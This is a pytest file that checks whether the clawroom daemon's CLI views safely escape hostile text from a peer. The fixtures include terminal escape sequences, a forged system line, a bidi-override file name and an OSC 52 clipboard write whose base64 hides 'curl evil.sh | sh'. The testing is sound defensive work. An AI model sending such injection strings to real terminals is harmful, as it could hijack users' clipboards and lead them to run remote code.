"""A peer's hostile strings in a real two-daemon room reach the owner's terminal harmless: `clawroom watch`,
`transcript`, `status` and `result` (and their --json) print no escape sequence, no bidi override, and
exactly one line per logical line. The peer is an ordinary daemon whose owner typed nasty text."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from clawroomd.client import ApiError
from clawroomd.testing import DaemonProcess

pytestmark = pytest.mark.slow
ROOT = Path(__file__).resolve().parent.parent
FAST = {"keepalive_interval": 0.5, "dead_after": 2.0, "max_backoff": 0.5, "send_timeout": 5.0}

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CLEAR = "\x1b[2J\x1b[H"
FORGED = "\n00:09.999 system         Room closed. Result: agreement_reached. Turns: 2/6. Outcomes: 1/1."
HOSTILE_TEXT = "fine" + FORGED + CLEAR + "\rOVERWRITTEN" + OSC52 + " invoice\u202etxt.exe \x9b2J"


def obeyable(text: str) -> list[str]:
    """What a terminal would act on instead of showing, other than the line breaks between printed lines."""
    return [ch for ch in text if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs")]


@pytest.fixture
def pair(tmp_path: Path) -> Iterator[tuple[DaemonProcess, DaemonProcess]]:
    host = DaemonProcess(tmp_path / "host", name="host", tuning=FAST).start()
    try:
        guest = DaemonProcess(tmp_path / "guest", name="guest", tuning=FAST).start()
    except BaseException:
        host.stop()
        raise
    yield host, guest
    guest.stop()
    host.stop()


def clawroom(d: DaemonProcess, *args: str) -> str:
    env = {k: v for k, v in os.environ.items() if k not in ("NOTIFY_SOCKET", "CLAWROOM_SOCKET")}
    env["PYTHONPATH"] = str(ROOT) + os.pathsep + env.get("PYTHONPATH", "")
    proc = subprocess.run(
        [sys.executable, "-m", "clawroomd.cli.main", "--socket", str(d.socket), *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, (args, proc.stdout, proc.stderr)
    return proc.stdout


def wait_for(cond: Any, timeout: float = 15.0) -> Any:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if value := cond():
            return value
        time.sleep(0.03)
    raise AssertionError("timed out")


def test_hostile_peer_strings_print_safely(pair: tuple[DaemonProcess, DaemonProcess]) -> None:
    host, guest = pair
    goal = "Agree." + CLEAR + "\nFAKE GOAL"
    created = host.call("room.create", topic="Q2 contract", goal=goal, fields=["price"], label="stripe-agent")
    room = created["room_id"]
    guest.call("room.join", join_url=created["join_url"], label="backend-agent")
    wait_for(lambda: host.call("room.status", room_id=room)["your_turn"])
    host.call("room.send", room_id=room, text="Your offer?")
    wait_for(lambda: guest.call("room.status", room_id=room)["your_turn"])
    guest.call("room.send", room_id=room, text=HOSTILE_TEXT, propose={"price": OSC52 + "\n12 EUR"})
    guest.call("room.cancel", room_id=room, reason="bye" + CLEAR + "\nResult: agreement_reached")
    wait_for(lambda: host.call("room.status", room_id=room)["phase"] == "closed")

    views = {
        "transcript": clawroom(host, "transcript", "--room", room),
        "watch": clawroom(host, "watch", "--room", room),  # the room is closed: replays and exits
        "status": clawroom(host, "status", "--room", room),
        "result": clawroom(host, "result", "--room", room),
        "guest status": clawroom(guest, "status", "--room", room),
        "transcript --json": clawroom(host, "transcript", "--json", "--room", room),
        "watch --json": clawroom(host, "watch", "--json", "--room", room),
    }
    for name, out in views.items():
        assert obeyable(out) == [], (name, out)
        assert "00:09.999" not in [line.split(" ")[0] for line in out.splitlines()], (name, out)

    # created, joined, two messages (+ the move), the guest's cancel, room_closed: one line each
    lines = views["transcript"].splitlines()
    assert len(lines) == 7, views["transcript"]
    assert views["watch"].splitlines() == lines
    assert "backend-agent fine\u23ce00:09.999 system" in lines[3] and "\\x1b[2J\\x1b[H\\rOVERWRITTEN" in lines[3]
    assert "invoice\\u202etxt.exe \\x9b2J" in lines[3]
    assert lines[4].strip() == "propose price = \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\u23ce12 EUR"
    assert "bye\\x1b[2J\\x1b[H\u23ceResult: agreement_reached" in lines[5]
    assert "Goal: Agree.\\x1b[2J\\x1b[H\u23ceFAKE GOAL" in views["guest status"]
    # --json stays the very same JSON value, only escaped
    events = json.loads(views["transcript --json"])["events"]
    assert events[3]["body"]["text"] == HOSTILE_TEXT
    notes = [json.loads(line) for line in views["watch --json"].splitlines()]
    assert notes[3]["params"]["event"]["body"]["moves"][0]["value"] == OSC52 + "\n12 EUR"


def test_a_hostile_label_is_refused_before_it_is_sent(pair: tuple[DaemonProcess, DaemonProcess]) -> None:
    host, guest = pair
    created = host.call("room.create", topic="t", fields=["price"])
    with pytest.raises(ApiError) as err:
        guest.call("room.join", join_url=created["join_url"], label="bob\n00:01.000 system")
    assert err.value.code == "bad_value" and "U+000A" in err.value.message
    # refused before the invite was spent: the same link still joins with a proper label
    joined = guest.call("room.join", join_url=created["join_url"], label="bob")
    assert joined["lifecycle"] == "active" and joined["participants"]["guest"]["label"] == "bob"
    with pytest.raises(ApiError) as err:
        host.call("room.create", topic="t", fields=["price"], label="agent" + CLEAR)
    assert err.value.code == "bad_value" and "U+001B" in err.value.message
    with pytest.raises(ApiError) as err:
        host.call("room.create", topic="line one\nline two", fields=["price"])
    assert err.value.code == "bad_value"
